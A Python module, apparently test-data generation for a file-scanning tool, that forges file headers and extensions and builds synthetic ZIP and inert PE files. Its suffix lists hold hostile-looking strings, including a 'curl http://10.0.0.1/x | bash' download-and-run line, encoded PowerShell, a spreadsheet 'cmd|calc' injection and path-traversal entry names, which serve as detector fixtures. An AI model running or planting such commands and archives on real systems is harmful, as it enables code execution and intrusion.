"""Blobs and catalogue tables made from the driver's tables, each as a DataFrame and as the SQL of the same rows."""

from __future__ import annotations

import struct
import zlib

import pandas as pd
from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from filescope.functions.registry import CONTAINER_TYPES, SCRIPT_RULES, SIGNATURES, confidence_of
from filescope.operators.rules import apply_rule
from filescope.sources import blobs as source

FORGED_EXTENSIONS = ["pdf", "jpg", "exe", "txt", "zip", "mp4", "doc", "", "js", "png", "docx", "invoice_7.js", "pdf.exe"]
SCRIPT_SUFFIXES = [
    "", "eval (x)", "powershell -enc AAAA", "curl http://10.0.0.1/x | bash", "document.write(1)", "<script >", "onload='go'", "=cmd|calc", "see http://bit.ly/ab and https://a.example.tk/x", "fetch (u); atob (v)", "WScript.Shell", "urllib IEX now",
]
PDF_SUFFIXES = ["", "/JavaScript ", "/OpenAction", "/AA /S", "/Launch", "/EmbeddedFile", "/RichMedia", "/URI (http://x)", "/AcroForm", "/Encrypt <<", "/JS<1> /Flash /Encrypt/V"]
API_SUFFIXES = ["", "VirtualAlloc", "VirtualAlloc WinExec", "ShellExecute RegSetValue CryptEncrypt IsDebuggerPresent"]


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def pick(values: list[str], key: Column) -> Column:
    """The value at key modulo their number."""
    return F.element_at(F.array(*map(F.lit, values)), (F.pmod(key, F.lit(len(values))) + 1).cast("int"))


def pick_sql(values: list[str], key: str) -> str:
    quoted = ", ".join("'" + v.replace("'", "''") + "'" for v in values)
    return f"([{quoted}])[({key}) % {len(values)} + 1]"


def pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    p = table(spark, sf_dir, "pages")
    return source.from_table(p, "page_id", F.concat(F.lit("page_"), "page_id", F.lit(".html")), F.col("html"))


def headers() -> list[bytes]:
    """The registry's patterns at their offsets, zeros before."""
    return [bytes(s.offset) + bytes.fromhex(s.pattern) for s in SIGNATURES]


def forged(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Documents behind a signature, under a name whose extension may lie."""
    d = table(spark, sf_dir, "documents")
    key = F.col("doc_id")
    head = F.element_at(F.array(*(F.lit(h) for h in headers())), (F.pmod(key, F.lit(len(SIGNATURES))) + 1).cast("int"))
    ext = pick(FORGED_EXTENSIONS, F.floor(key / len(SIGNATURES)))
    name = F.concat(F.lit("doc_"), key.cast("string"), F.when(ext == "", "").otherwise(F.concat(F.lit("."), ext)))
    return source.from_table(d, "doc_id", name, F.concat(head, F.encode("text", "UTF-8")))


def forged_sql() -> str:
    heads = ", ".join(f"'{h.hex().upper()}'" for h in headers())
    n = len(SIGNATURES)
    ext = pick_sql(FORGED_EXTENSIONS, f"doc_id // {n}")
    return f"select doc_id as blob_id, doc_id % {n} as k, 'doc_' || doc_id || case when {ext} = '' then '' else '.' || {ext} end as file_name, unhex(([{heads}])[doc_id % {n} + 1]) || encode(text) as content from documents"


def forged_types_sql() -> str:
    """(k, type, label, mime, category, extension, confidence, broken) of the header forged for each k.

    Only the empty archive's header is a directory's end, so that the others' scans are incomplete.
    """
    own = {t[0]: t for t in CONTAINER_TYPES}
    lines = []
    for k, s in enumerate(SIGNATURES):
        label, mime, category, ext, confidence = s.label, s.mime, s.category, s.extension, confidence_of(s)
        if s.type in ("zip", "ole"):
            _, label, mime, category, ext, confidence, _ = own[s.type]
        elif s.type == "mp4":
            confidence = 96
        elif s.type == "pe":
            label, confidence = "DOS MZ Executable", 75
        lines.append(f"({k}, '{s.type}', '{label}', '{mime}', '{category}', '{ext}', cast({float(confidence)} as double), {str(s.pattern in ('504B0304', '504B0708')).lower()})")
    return "(values " + ", ".join(lines) + ") as t(k, type, label, mime, category, extension, confidence, broken)"


def suffixed(spark: SparkSession, sf_dir: str, prefix: str, suffixes: list[str], ext: str) -> DataFrame:
    d = table(spark, sf_dir, "documents")
    text = F.concat(F.lit(prefix), "text", F.lit("\n"), pick(suffixes, F.col("doc_id")))
    return source.from_table(d, "doc_id", F.concat(F.lit("doc_"), "doc_id", F.lit(f".{ext}")), text)


def suffixed_sql(prefix: str, suffixes: list[str]) -> str:
    return f"select doc_id, '{prefix}' || text || chr(10) || {pick_sql(suffixes, 'doc_id')} as text from documents"


def catalogue(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A files table without analysis: the forged names, with user and time of the event of the same number.

    risk_score and risk_level come from arithmetic on the id, as the queries over them don't ask how they were made.
    """
    d, e = table(spark, sf_dir, "documents"), table(spark, sf_dir, "events")
    j = d.join(e, d["doc_id"] == e["event_id"])
    score = F.pmod(F.col("doc_id") * 37, F.lit(101)).cast("int")
    level = F.when(F.col("doc_id") % 29 == 0, "UNKNOWN").when(score >= 80, "CRITICAL").when(score >= 60, "HIGH").when(score >= 35, "MEDIUM").when(score >= 12, "LOW").otherwise("SAFE")
    return j.select(F.col("doc_id").cast("string").alias("id"), F.concat(F.lit("u"), (F.col("user_id") % 7).cast("string")).alias("user_id"), F.md5("text").alias("sha256"), pick(["pdf", "txt", "png", "zip", "pe", "csv", "html", "json", "docx", "mp3"], F.col("user_id")).alias("detected_type"), score.alias("risk_score"), level.alias("risk_level"), F.col("ts").alias("created_at"))


CATALOGUE_SQL = (
    "files as (select *, case when score >= 80 then 'CRITICAL' when score >= 60 then 'HIGH' when score >= 35 then 'MEDIUM' when score >= 12 then 'LOW' else 'SAFE' end as lv from (select doc_id, cast(doc_id as varchar) as id, 'u' || (e.user_id % 7) as user_id, md5(text) as sha256, "
    + pick_sql(["pdf", "txt", "png", "zip", "pe", "csv", "html", "json", "docx", "mp3"], "e.user_id")
    + " as detected_type, cast((doc_id * 37) % 101 as integer) as score, e.ts as created_at from documents d join events e on d.doc_id = e.event_id)), "
    "f as (select id, user_id, sha256, detected_type, score as risk_score, case when doc_id % 29 = 0 then 'UNKNOWN' else lv end as risk_level, created_at from files)"
)


def messages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Conversations as messages about files: a file's id is the conversation's."""
    c = table(spark, sf_dir, "conversations")
    return c.select(F.col("conv_id").cast("string").alias("file_id"), F.format_string("%s-%05d", F.col("conv_id"), F.col("turn")).alias("id"), "role", F.col("text").alias("content"), F.col("turn").alias("created_at"))


def findings(spark: SparkSession, sf_dir: str, files: DataFrame | None = None) -> DataFrame:
    """Script findings of the suffixed documents, as a child table of the catalogue; of `files` only, if given."""
    text = F.concat("text", F.lit("\n"), pick(SCRIPT_SUFFIXES, F.col("doc_id")))
    d = table(spark, sf_dir, "documents")
    if files is not None:  # before any rule reads a text
        d = d.join(files.select(F.col("id").cast("long").alias("doc_id")), "doc_id", "left_semi")
    d = d.select("doc_id", text.alias("t"))
    found = F.filter(F.array(*(apply_rule(r, F.col("t"), 120) for r in SCRIPT_RULES)), lambda x: x.isNotNull())
    return d.select(F.col("doc_id").cast("string").alias("file_id"), F.posexplode(found).alias("position", "x")).select("file_id", "position", "x.category", "x.severity", "x.description", "x.evidence", "x.recommendation", "x.points")



def le(value: Column, size: int) -> Column:
    """A number's little-endian bytes."""
    text = F.lpad(F.hex(value.cast("long")), 2 * size, "0")
    return F.unhex(F.concat(*(F.substring(text, 2 * i + 1, 2) for i in reversed(range(size)))))


def be(value: Column, size: int) -> Column:
    return F.unhex(F.lpad(F.hex(value.cast("long")), 2 * size, "0"))


def stored_zip(name: str, text: str, extra: str, locked: bool) -> bytes:
    """A ZIP file with a stored entry, and perhaps an empty second one; the first may be marked as encrypted."""
    local, central, n = b"", b"", 0
    for own, body in ((name, text.encode()), (extra, b"")):
        if not own:
            continue
        raw, crc = own.encode(), zlib.crc32(body)
        flags = int(locked and not n)
        fields = struct.pack("<HHHHIIIHH", flags, 0, 0, 0, crc, len(body), len(body), len(raw), 0)
        central += b"PK\x01\x02" + struct.pack("<HH", 20, 20) + fields + struct.pack("<HHHII", 0, 0, 0, 0, len(local)) + raw
        local += b"PK\x03\x04" + struct.pack("<H", 20) + fields + raw + body
        n += 1
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, n, n, len(central), len(local), 0)


def container(entries: dict[str, bytes], deflated: bool = False, declared: int | None = None) -> bytes:
    """A ZIP file of entries, stored or deflated; `declared` replaces the expanded sizes in its directory."""
    local, central = b"", b""
    for name, data in entries.items():
        raw, crc, body = name.encode(), zlib.crc32(data), data
        if deflated:
            d = zlib.compressobj(6, zlib.DEFLATED, -15)
            body = d.compress(data) + d.flush()
        fields = lambda size, body=body, crc=crc, raw=raw: struct.pack("<HHHHIIIHH", 0, 8 if deflated else 0, 0, 0, crc, len(body), size, len(raw), 0)
        central += b"PK\x01\x02" + struct.pack("<HH", 20, 20) + fields(len(data) if declared is None else declared) + struct.pack("<HHHII", 0, 0, 0, 0, len(local)) + raw
        local += b"PK\x03\x04" + struct.pack("<H", 20) + fields(len(data)) + raw + body
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(central), len(local), 0)


ZIP_EXTRAS = ["", "x.exe", "b.zip", "../up.txt", "word/vbaProject.bin", "/abs.txt"]


def zips(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Each document as an entry of a stored ZIP file, beside a second one that a rule may look for."""
    packed = F.pandas_udf(lambda n, t, x, k: pd.Series([stored_zip(*r) for r in zip(n, t, x, k, strict=True)]), "binary")
    d = table(spark, sf_dir, "documents")
    key = F.col("doc_id")
    data = packed(F.concat(F.lit("f"), key), F.col("text"), pick(ZIP_EXTRAS, key), key % 7 == 0)
    return source.from_table(d, "doc_id", F.concat(F.lit("doc_"), key, F.lit(".zip")), data)


def pe_file(imports: dict[str, list[str | int]], exports: list[str], tail: bytes = b"", wide: bool = False, bound: bool = False, import_at: int | None = None) -> bytes:
    """A PE file that no system would run: its header, sections, import and export tables, and `tail` in a section.

    Functions are names or ordinals. `bound`: without the table of names. import_at: another address of the import table.
    """
    base, size = 0x3000, 8 if wide else 4
    top = 1 << (8 * size - 1)
    table = bytearray(20 * (len(imports) + 1))

    def put(data: bytes) -> int:
        table.extend(data)
        return base + len(table) - len(data)

    for i, (library, functions) in enumerate(imports.items()):
        entries = [top | f if isinstance(f, int) else put(b"\0\0" + f.encode() + b"\0") for f in functions]
        thunks = put(b"".join(e.to_bytes(size, "little") for e in [*entries, 0]))
        struct.pack_into("<IIIII", table, 20 * i, 0 if bound else thunks, 0, 0, put(library.encode() + b"\0"), thunks)
    base_out = 0x100000
    out = bytearray(40)
    named = []
    for e in exports:
        named.append(base_out + len(out))
        out += e.encode() + b"\0"
    struct.pack_into("<II", out, 24, len(named), 0)
    struct.pack_into("<I", out, 32, base_out + len(out))
    out += b"".join(struct.pack("<I", n) for n in named)
    directories = struct.pack("<IIII", base_out if exports else 0, len(out), base if import_at is None else import_at, len(table)) + bytes(14 * 8)
    optional = struct.pack("<H", 0x20B if wide else 0x10B) + bytes(110 if wide else 94) + directories
    parts = [(b".text", 0x1000, tail), (b".idata", base, bytes(table)), (b".edata", base_out, bytes(out))]
    head = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + bytes(0x80 - 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664 if wide else 0x14C, len(parts), 0, 0, 0, len(optional), 0x102) + optional
    raw = len(head) + 40 * len(parts)
    rows, bodies = b"", b""
    for name, address, data in parts:
        rows += name.ljust(8, b"\0") + struct.pack("<IIII", min(len(data), 0x2000) if name == b".text" else len(data), address, len(data) if name != b".text" else 0, raw + len(bodies)) + bytes(12) + struct.pack("<I", 0x40000000)
        bodies += data
    return head + rows + bodies
